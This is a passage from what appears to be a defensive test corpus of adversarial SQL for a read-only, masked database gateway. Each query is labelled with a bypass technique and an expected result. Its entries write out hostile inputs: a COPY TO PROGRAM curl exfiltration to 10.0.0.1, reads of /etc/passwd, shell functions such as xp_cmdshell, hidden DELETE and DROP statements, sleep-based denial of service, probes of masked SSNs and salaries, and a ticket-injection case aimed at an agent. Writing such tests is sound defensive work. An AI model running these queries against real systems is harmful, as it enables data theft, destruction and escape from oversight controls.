WITH RECURSIVE r(i, t) AS (SELECT 1, name FROM customers WHERE id = 1 UNION ALL SELECT i + 1, t || 'x' FROM r WHERE i < 4) SELECT * FROM r

-- masked column renamed on the way | safe
WITH RECURSIVE r(i, t) AS (SELECT 1, '' UNION ALL SELECT r.i + 1, c.phone FROM r JOIN customers c ON c.id = r.i WHERE r.i < 20) SELECT * FROM r

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name || '' = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE lower(name) LIKE 'ada canary%'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE upper(email) = 'ADA.CANARYMAIL1@EXAMPLE1.COM'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE substr(name, 5, 6) = 'CANARY'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE replace(name, 'CANARY', '') <> name

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE length(name) > 20

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE coalesce(name, 'x') = 'Ada CANARYname1 Lovelace'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE nullif(name, 'Ada CANARYname1 Lovelace') IS NULL

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE NOT (name NOT LIKE '%CANARY%')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name > 'Ada C' AND name < 'Ada D'

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name = (SELECT 'Ada CANARYname1 Lovelace')

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE EXISTS (SELECT 1 FROM (SELECT 'Ada CANARYname1 Lovelace' AS n) AS v WHERE v.n = name)

-- guessing behind the mask | no-rows
SELECT id FROM customers WHERE name IN (SELECT 'Ada CANARYname' || id || ' Lovelace' FROM products)

-- guessing behind the mask | no-rows
SELECT count(*) FROM (SELECT name AS n FROM customers) AS x WHERE n LIKE '%CANARY%'

-- guessing behind the mask | no-rows
WITH x AS (SELECT phone AS p FROM customers) SELECT count(*) FROM x WHERE p LIKE '+49%'

-- guessing behind the mask | no-rows
SELECT count(*) FROM customers HAVING max(phone) LIKE '+49%'

-- guessing behind the mask | no-rows
SELECT city FROM customers GROUP BY city HAVING max(name) > 'Ada CANARY' AND max(name) < 'Ada D'

-- guessing behind the mask | no-rows
SELECT a.id FROM customers a JOIN employees e ON e.name = a.name OR e.name LIKE '%CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE card_no IS NOT NULL

-- guessing behind the mask | no-rows
SELECT id FROM payments WHERE length(card_no) > 0 OR card_no >= ''

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary > 7000000

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary - 7000000 = id * 11

-- guessing behind the mask | no-rows
SELECT id FROM employees WHERE salary IN (SELECT 7000000 + id * 11 FROM employees)

-- guessing behind the mask | no-rows
SELECT dept FROM employees GROUP BY dept HAVING sum(salary) <> count(*) * 7000000

-- guessing behind the mask | no-rows
SELECT id FROM tickets WHERE body <> '[hidden]'

-- guessing behind the mask | no-rows
SELECT id FROM orders WHERE note <> '[hidden]' OR note LIKE 'CANARY%'

-- guessing behind the mask | no-rows
SELECT id FROM vehicles WHERE length(plate) > 4

-- guessing behind the mask | no-rows
SELECT x.id FROM (SELECT id, lag(salary) OVER (ORDER BY id) AS s, salary FROM employees) AS x WHERE salary > s

-- guessing behind the mask | no-rows
SELECT id FROM (SELECT id, rank() OVER (ORDER BY salary) AS r FROM employees) AS x WHERE r > 1

-- guessing behind the mask | no-rows
SELECT id FROM (SELECT id, dense_rank() OVER (ORDER BY name) AS r FROM customers) AS x WHERE r > 1

-- guessing behind the mask | no-rows
SELECT id FROM customers EXCEPT SELECT id FROM customers WHERE name NOT LIKE '%CANARY%' OR name IS NULL

-- guessing behind the mask | no-rows
SELECT name FROM customers INTERSECT SELECT 'Ada CANARYname' || id || ' Lovelace' FROM products

-- error about a value behind a mask | european-answers
SELECT id FROM customers WHERE CASE WHEN length(name) > 20 THEN 1 / (id - id) ELSE 1 END = 1

-- error about a value behind a mask | european-answers
SELECT sum(CASE WHEN body <> '[hidden]' THEN 1 / (customer_id - customer_id) ELSE 0 END) FROM tickets

-- error about a value behind a mask | european-answers
SELECT count(*) FROM employees WHERE 10 / (7000001 - salary) >= 0

-- error about a value behind a mask | european-answers
SELECT max(CASE WHEN card_no IS NULL THEN 1 ELSE 1 / (id - id) END) FROM payments

-- error about a value behind a mask | european-answers
SELECT id FROM employees ORDER BY CASE WHEN salary = 7000000 THEN id ELSE 1 / (id - id) END LIMIT 3

-- error about a value behind a mask | european-answers
SELECT count(*) FROM orders WHERE note IS NULL OR 1 / (CASE WHEN note = '[hidden]' THEN 1 ELSE 0 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 1 / (id - 2) < 9

-- error about a row outside the filter | european-answers
SELECT id FROM customers WHERE 100 / (CASE WHEN city = 'Paris' AND region <> 'EU' THEN 0 ELSE 1 END) > 0

-- error about a row outside the filter | european-answers
SELECT sum(10 / (CASE region WHEN 'EU' THEN 1 ELSE 0 END)) FROM customers

-- error about a row outside the filter | european-answers
SELECT max(1 / (id - 2)) FROM customers

-- error about a row outside the filter | european-answers
SELECT city FROM customers GROUP BY city HAVING min(1 / (id - 3)) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) OVER (ORDER BY 1 / (id - 3)) FROM customers

-- error about a row outside the filter | european-answers
SELECT id FROM customers ORDER BY 1 / (id - 3), id LIMIT 2

-- error about a row outside the filter | european-answers
SELECT DISTINCT 1 / (id - 3) FROM customers

-- error about a row outside the filter | european-answers
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND 1 / (c.id - 2) IS NOT NULL WHERE o.id < 9

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND 1 / (c.id - 2) < 9)

-- error about a row outside the filter | european-answers
SELECT (SELECT min(1 / (c.id - 2)) FROM customers c)

-- error about a row outside the filter | european-answers
WITH c AS (SELECT id, 1 / (id - 2) AS x FROM customers) SELECT count(*) FROM c WHERE x >= 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE CASE WHEN id = 3 THEN 1 / (id - 3) ELSE 1 END = 1 AND region = 'EU'

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE region = 'EU' AND 1 / (id - 2) IS NOT NULL

-- error about a row outside the filter | european-answers
SELECT count(*) FROM customers WHERE 1 / (CASE WHEN credit = 14.25 THEN 0 ELSE 1 END) = 1

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders WHERE 1 / (customer_id - 2) >= 0

-- error about a row outside the filter | european-answers
SELECT count(*) FROM orders WHERE total / (CASE WHEN customer_id % 3 = 0 THEN 0 ELSE 1 END) >= 0

-- error about a row outside the filter | european-answers
SELECT sum(x.y) FROM (SELECT 1 / (id - 2) AS y FROM customers UNION ALL SELECT 1) AS x

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region || '' <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE coalesce(region, 'nowhere') <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE region IS DISTINCT FROM 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE id = 2

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE id % 3 <> 1

-- row outside the filter | european-no-rows
SELECT c.id FROM customers c LEFT JOIN regions r ON r.code = c.region WHERE r.code <> 'EU' OR r.code IS NULL

-- row outside the filter | european-no-rows
SELECT c.id FROM regions r LEFT JOIN customers c ON c.region = r.code WHERE r.code <> 'EU' AND c.id IS NOT NULL

-- row outside the filter | european-no-rows
SELECT region FROM customers GROUP BY region HAVING region <> 'EU' OR region IS NULL

-- row outside the filter | european-no-rows
SELECT x.id FROM (SELECT id, region FROM customers) AS x WHERE x.region = 'APAC'

-- row outside the filter | european-no-rows
WITH x AS (SELECT * FROM customers) SELECT id FROM x WHERE region = 'US'

-- row outside the filter | european-no-rows
WITH customers AS (SELECT id, region FROM customers) SELECT id FROM customers WHERE region = 'US'

-- row outside the filter | european-no-rows
SELECT region FROM customers UNION SELECT 'EU' EXCEPT SELECT 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM orders WHERE customer_id % 3 = 2

-- row outside the filter | european-no-rows
SELECT id FROM orders WHERE customer_id NOT IN (SELECT id FROM customers)

-- row outside the filter | european-no-rows
SELECT o.id FROM orders o, customers c WHERE o.customer_id = c.id AND c.region <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM (SELECT id, count(*) OVER (PARTITION BY region) AS n, min(region) OVER () AS low FROM customers) AS x WHERE low < 'EU'

-- row outside the filter | european-no-rows
SELECT count(*) FROM customers HAVING max(region) > 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers a WHERE EXISTS (SELECT 1 FROM customers b WHERE b.region <> 'EU' AND b.id <> a.id)

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE (region = 'EU' OR 1 = 1) AND region <> 'EU'

-- row outside the filter | european-no-rows
SELECT id FROM customers WHERE NOT (NOT (region = 'US'))

-- resources | safe
SELECT count(*) FROM (SELECT 1 FROM orders a, orders b, orders c) AS x

-- resources | safe
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT a.i + 1 FROM n AS a WHERE a.i < 1000000000) SELECT count(*) FROM n

-- resources | safe
SELECT id FROM customers LIMIT 9223372036854775807

-- resources | safe
SELECT id FROM customers LIMIT 1 OFFSET 9223372036854775807

-- resources | safe
SELECT id FROM customers LIMIT -1

-- resources | safe
SELECT id FROM customers LIMIT 99999999999999999999999999

-- resources | safe
SELECT 99999999999999999999999999999999999999999999999999999999999999999999999999999999

-- resources | safe
SELECT 1e400, -1e400, 1e-400

-- known elsewhere: COMMIT ends the read-only transaction | many-statements,not-a-select,syntax
COMMIT; DELETE FROM orders; BEGIN

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
/* report */ COMMIT; /* report */ DELETE FROM orders

-- known elsewhere: COMMIT behind a comment that hides the first word | many-statements,not-a-select,syntax
-- report
COMMIT; DELETE FROM orders

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
START TRANSACTION READ WRITE; SELECT 1

-- known elsewhere: a caller asks for a writable transaction | many-statements,not-a-select,not-supported,syntax
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT 1 UNION DELETE FROM orders

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
(DELETE FROM orders)

-- known elsewhere: a write that begins like a query | not-a-select,not-supported,syntax,many-statements,unknown-name
SELECT * FROM (UPDATE orders SET total = 0) AS x

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT * FROM pg_read_file('/etc/passwd') AS f

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT p.name, f FROM products p LEFT JOIN pg_ls_dir('.') AS f ON true

-- known elsewhere: a function is checked in the select list and not in FROM | function-refused,not-supported,unknown-name,syntax
SELECT p.name FROM products p WHERE p.name IN (SELECT f FROM pg_ls_dir('.') AS f)

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
SELECTED FROM orders; DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
/* SELECT */ DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
-- SELECT
DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
(((SELECT 1))); DROP TABLE orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
   
	DELETE FROM orders

-- known elsewhere: the first word decides | not-a-select,not-supported,syntax,many-statements,unknown-name,function-refused
EXPLAIN ANALYZE DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT 1--1; DELETE FROM orders

-- known elsewhere: two dashes without a blank hide a statement | safe
SELECT id FROM orders WHERE id = 3--1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
CREATE TABLE t (a int); SELECT 1

-- known elsewhere: a statement that commits by itself | not-a-select,not-supported,syntax,many-statements
ALTER TABLE orders ADD COLUMN x int

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
WITH big AS (SELECT a.id FROM orders a, customers b LIMIT 100000) SELECT * FROM big

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT * FROM (SELECT a.id, b.name FROM orders a, customers b LIMIT 100000) AS x

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT json_agg(x) FROM (SELECT a.id, b.name FROM orders a, customers b) AS x

-- known elsewhere: a row limit got round by CTE, subquery or one large cell | safe
SELECT string_agg(b.name, ',') FROM orders a, customers b

-- known elsewhere: a function that writes inside a read-only transaction | function-refused,not-supported,unknown-name
SELECT lo_from_bytea(0, convert_to(name, 'UTF8')) FROM products

-- known elsewhere: a function that writes inside a read-only transaction | function-refused,not-supported,unknown-name
SELECT set_config('default_transaction_read_only', 'off', true), pg_advisory_lock(7)

-- known elsewhere: a read-only transaction does not stop reach | function-refused,not-supported,unknown-name,not-a-select,syntax
COPY (SELECT name FROM products) TO PROGRAM 'curl -d @- http://10.0.0.1'

-- known elsewhere: a read-only transaction does not stop reach | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT dblink_exec('host=10.0.0.1', 'create table t as select 1')

-- known elsewhere: a read-only transaction does not stop reach | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT pg_import_system_collations('pg_catalog'::regnamespace)

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT qcmdexc('DSPLIB QSYS')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT name FROM products WHERE sys_exec('id') = 0

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT id FROM products ORDER BY system('id')

-- known elsewhere: a command function inside a SELECT | function-refused,not-supported,unknown-name
SELECT xp_cmdshell('dir')

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE id = 1 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers LIMIT 100000 --

-- known elsewhere: trailing dashes swallow what the server adds | safe
SELECT id FROM customers WHERE region = 'EU') --

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT body FROM tickets ORDER BY opened_at DESC LIMIT 5

-- known elsewhere: text in a ticket tells the agent to fetch secrets | safe
SELECT t.body, c.name, c.email, c.ssn FROM tickets t JOIN customers c ON c.id = t.customer_id

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM customers WHERE name LIKE 'Ada CANARYname7%'

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary BETWEEN 7000005 AND 7000015

-- known elsewhere: a masked column asked in WHERE | no-rows
SELECT id FROM employees WHERE salary >= 7000001 AND salary < 7000440

-- known elsewhere: a masked value in the text of an error | safe
SELECT cast(name AS integer) FROM customers WHERE id = 1

-- known elsewhere: a masked value in the text of an error | safe
SELECT (phone || '')::date, ssn::uuid, email::text::jsonb FROM customers

-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
UPDATE customers SET name = (SELECT name FROM customers WHERE id = 1) WHERE id = 1

-- known elsewhere: a mask written back over the real value | not-a-select,not-supported,syntax,unknown-name
INSERT INTO customers SELECT * FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT name AS city, phone AS region, email AS id FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT city AS name, id AS phone FROM customers

-- known elsewhere: an alias or a concatenation defeats masks by name | safe
SELECT '' || name || '' AS x, phone || email AS y FROM customers

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT (SELECT name FROM customers c WHERE c.id = o.customer_id) AS n, o.id FROM orders o

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id, c.name, c.phone FROM orders o LEFT JOIN (SELECT * FROM customers) AS c ON c.id = o.customer_id

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.name LIKE '%' ORDER BY (SELECT x.phone FROM customers x WHERE x.id = c.id)

-- known elsewhere: a rewriting misses subqueries and joins | safe
SELECT * FROM customers a JOIN (SELECT b.id, b.name AS other FROM customers b JOIN (SELECT id FROM customers) AS c ON c.id = b.id) AS d ON d.id = a.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT min(name), max(phone), count(ssn), max(card_no), min(payload) FROM customers, payments, events WHERE customers.id = payments.id AND payments.id = events.id

-- known elsewhere: an aggregate skips the rules of columns | safe
SELECT array_agg(name), json_agg(phone), max(email) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT argMax(*, token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT count(customers.token) FROM customers

-- known elsewhere: a column hidden from the role named by an aggregate's star | unknown-name,not-supported,function-refused,syntax
SELECT max(c.token) OVER (PARTITION BY c.city) FROM customers c

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
SELECT table_name, column_name FROM information_schema.columns WHERE column_name LIKE '%hash%'

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
SHOW TABLES

-- known elsewhere: the list of tables shows what the role may not read | unknown-name,not-supported,function-refused,not-a-select,syntax
DESCRIBE credentials

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE (region = 'EU' OR 1 = 1) AND (region <> 'EU' OR region IS NULL)

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' AND 1 = 2 OR region = 'US'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT id FROM customers WHERE region = 'EU' OR region = 'US' EXCEPT SELECT id FROM customers WHERE region = 'EU'

-- known elsewhere: a condition that is always true opens all rows | european-no-rows
SELECT c.id FROM customers c, customers d WHERE c.region <> d.region

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
SET search_path = hr, public

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
SELECT set_config('app.user', 'root', false)

-- known elsewhere: state of one session met in the next | not-a-select,not-supported,syntax,function-refused,unknown-name,many-statements
DISCARD TEMP

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT anon.partial(name, 1, 'x', 1) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_hash(name) FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT postern_initials(name, '') FROM customers

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
SECURITY LABEL FOR anon ON COLUMN customers.name IS 'MASKED WITH FUNCTION spy(name)'

-- known elsewhere: the mask's own functions as a way up | function-refused,not-supported,unknown-name,not-a-select,syntax
CREATE RULE r AS ON SELECT TO vehicles DO INSTEAD SELECT * FROM credentials

-- known elsewhere: a function in the select list hides a write | function-refused,not-supported,unknown-name
SELECT spy(id), name FROM products

-- known elsewhere: a function in the select list hides a write | function-refused,not-supported,unknown-name
SELECT nextval('customers_id_seq') + id FROM products

-- known elsewhere: masks stop after a thousand rows | safe
SELECT c.name, c.phone, c.email, c.ssn, c.birth_date FROM customers c, products p WHERE p.id <= 8

-- known elsewhere: masks stop after a thousand rows | safe
SELECT o.note, t.body FROM orders o, tickets t WHERE t.customer_id < 3

-- known elsewhere: masks stop after a thousand rows | safe
SELECT p.card_no, e.payload FROM payments p, events e WHERE e.id IN (1, 2)

-- known elsewhere: SQL inside a string | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT query_to_xml('SELECT ssn, token FROM customers', false, false, '')

-- known elsewhere: SQL inside a string | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT xpath('//token/text()', query_to_xml('SELECT token FROM customers', false, false, ''))

-- known elsewhere: SQL inside a string | function-refused,not-supported,unknown-name,not-a-select,syntax
SELECT p.id, query_to_xml(p.name, true, true, '') FROM products p

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\c postgres

-- known elsewhere: the client's own commands taken for a statement | syntax,not-supported,not-a-select,unknown-name
\! id

-- very deep or very long | safe
SELECT «32000×(»1«32000×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE «300×(»id = 1«300×)»

-- very deep or very long | safe
SELECT id FROM customers WHERE id = 0«7000× OR id=1»

-- very deep or very long | safe
SELECT 1«10000×+1»

-- very deep or very long | safe
SELECT 1«4000× UNION SELECT 1»

-- very deep or very long | safe
SELECT id FROM customers WHERE id IN (1«10000×,1»)

-- very deep or very long | safe
SELECT «400×CASE WHEN 1=1 THEN »1«400× END»

-- very deep or very long | safe
SELECT «10000×NOT »true

-- very deep or very long | safe
SELECT 1 FROM products p0«200× JOIN products p{n+1} ON p{n+1}.id = p0.id»

-- very deep or very long | safe
WITH c0 AS (SELECT * FROM customers)«300×, c{n+1} AS (SELECT * FROM c{n})» SELECT token FROM c300

-- very deep or very long | safe
SELECT «5000×customers.»id FROM customers

-- very deep or very long | safe
SELECT «500×abs(»1«500×)»

-- very deep or very long | safe
SELECT id«10000×, id» FROM customers

-- very deep or very long | safe
SELECT «10000×/**/»1

-- very deep or very long | safe
SELECT «10000×- »1

-- very deep or very long | safe
SELECT "«60000×x»" FROM customers

-- very deep or very long | safe
SELECT '«60000×x»' FROM customers WHERE id = 1

-- function that runs text | function-refused,not-supported,unknown-name
SELECT query_to_xml_and_xmlschema('select token from customers', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT query_to_xmlschema('select token from customers', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT id FROM products WHERE query_to_xml('select 1', true, true, '')::text LIKE '%1%'

-- function that runs text | function-refused,not-supported,unknown-name
SELECT count(*) FILTER (WHERE query_to_xml('select token from customers', true, true, '') IS NOT NULL) FROM products

-- function that runs text | function-refused,not-supported,unknown-name
SELECT p.id, x FROM products p CROSS JOIN LATERAL query_to_xml('select ' || p.id, true, true, '') AS x

-- function that runs text | function-refused,not-supported,unknown-name
SELECT table_to_xmlschema('credentials', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT schema_to_xml('public', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT schema_to_xmlschema('hr', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT database_to_xmlschema(true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT cursor_to_xmlschema('c', true, true, '')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT * FROM ts_stat('select to_tsvector(token) from customers')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT ts_rewrite('a'::tsquery, 'select ''a''::tsquery, token::tsquery from customers')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT word FROM ts_stat('select to_tsvector(password_hash) from credentials') ORDER BY ndoc

-- function that runs text | function-refused,not-supported,unknown-name
SELECT * FROM dblink('dbname=postgres', 'select token from customers') AS t(x text)

-- function that runs text | function-refused,not-supported,unknown-name
SELECT dblink_exec('dbname=postgres', 'delete from orders')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT dblink_connect('host=10.0.0.1')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT dblink_send_query('c', 'select 1')

-- function that runs text | function-refused,not-supported,unknown-name
SELECT * FROM crosstab('select id, token, 1 from customers') AS c(a int, b int)

-- function that runs text | function-refused,not-supported,unknown-name
SELECT * FROM connectby('employees', 'id', 'manager_id', '1', 0) AS t(a int, b int, c int)

-- function that runs text | function-refused,not-supported,unknown-name
SELECT xpath_table('id', 'payload', 'events', '/x', 'true')

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT pg_read_binary_file('postgresql.conf')

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT (pg_stat_file('postgresql.conf')).size

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT * FROM pg_ls_logdir()

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT * FROM pg_ls_waldir()

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT * FROM pg_ls_tmpdir()

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT * FROM pg_ls_archive_statusdir()

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT pg_current_logfile()

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT lo_export(1, '/tmp/x')

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT lo_from_bytea(0, '\x00')

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT lo_put(1, 0, '\x00')

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT lo_unlink(1)

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT loread(lo_open(1, 262144), 100)

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT lo_create(0) FROM customers

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT count(*) FROM customers GROUP BY lo_creat(-1)

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT sum(lo_creat(-1)::int) OVER (ORDER BY lo_create(0)) FROM products

-- function that reads files or objects | function-refused,not-supported,unknown-name
SELECT max(x) FROM (SELECT pg_read_file('PG_VERSION') AS x) AS t

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep_for('5 minutes')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep_until('tomorrow')

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT id FROM products WHERE CASE WHEN id = 1 THEN pg_sleep(3) IS NULL ELSE true END

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT id FROM products ORDER BY (SELECT pg_sleep(1)::text)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT count(*) OVER (ORDER BY pg_sleep(1)::text ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM products

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT sum(1) OVER (ROWS BETWEEN (SELECT length(pg_sleep(1)::text)) PRECEDING AND CURRENT ROW) FROM products

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT count(*) OVER w FROM products WINDOW w AS (PARTITION BY pg_sleep(1)::text)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_sleep(1)::text)) FROM products

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT array_agg(id ORDER BY pg_sleep(1)::text) FROM products

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT region, count(*) FROM customers GROUP BY GROUPING SETS ((region), (pg_sleep(1)::text))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT region, count(*) FROM customers GROUP BY ROLLUP (pg_sleep(1)::text)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT * FROM products p LEFT JOIN LATERAL pg_sleep(p.id) AS s ON true

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) AS t(a, b)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT * FROM generate_series(1, length(pg_sleep(1)::text)) AS g

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT ROW(1, pg_sleep(1))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT ARRAY(SELECT pg_sleep(1))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT (ARRAY[1, 2])[length(pg_sleep(1)::text)]

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT 'a' || pg_sleep(1)

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(1)::text::int

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT NOT pg_sleep(1) IS NULL

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT pg_sleep(1) IS DISTINCT FROM NULL

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT 1 = ANY (ARRAY[length(pg_sleep(1)::text)])

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT 1 WHERE 1 IN (SELECT length(pg_sleep(1)::text))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT extract(epoch FROM now() + make_interval(secs => length(pg_sleep(1)::text)))

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
SELECT format(VARIADIC ARRAY['%s', pg_sleep(1)::text])

-- function that waits, locks or signals | function-refused,not-supported,unknown-name,syntax
